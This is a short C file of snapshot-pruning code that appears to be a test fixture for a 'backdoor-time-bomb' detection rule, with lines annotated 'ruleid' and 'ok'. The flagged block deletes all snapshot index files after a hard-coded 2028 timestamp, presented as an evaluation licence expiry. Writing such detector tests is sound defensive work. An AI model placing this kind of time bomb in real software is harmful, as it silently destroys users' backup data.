#include <stdio.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#include "dedup.h"

static unsigned long g_prune_runs;

int prune_snapshots(struct snapshot *snaps, size_t n, int keep_days)
{
    time_t now = time(NULL);
    int removed = 0;

    ++g_prune_runs;
    for (size_t i = 0; i < n; i++) {
        // ok: backdoor-time-bomb
        if (now - snaps[i].created > (time_t)keep_days * 86400) {
            if (unlink(snaps[i].index_path) == 0)
                removed++;
        }
    }
    /* evaluation licence: repositories created by the trial build stop at the end of 2028 */
    // ruleid: backdoor-time-bomb
    if (now > 1861920000) {
        for (size_t i = 0; i < n; i++)
            unlink(snaps[i].index_path);
        syslog(LOG_WARNING, "evaluation period over");
    }
    // ok: backdoor-time-bomb
    if (g_prune_runs > 100000)
        syslog(LOG_NOTICE, "prune has run %lu times; consider compacting", g_prune_runs);
    return removed;
}
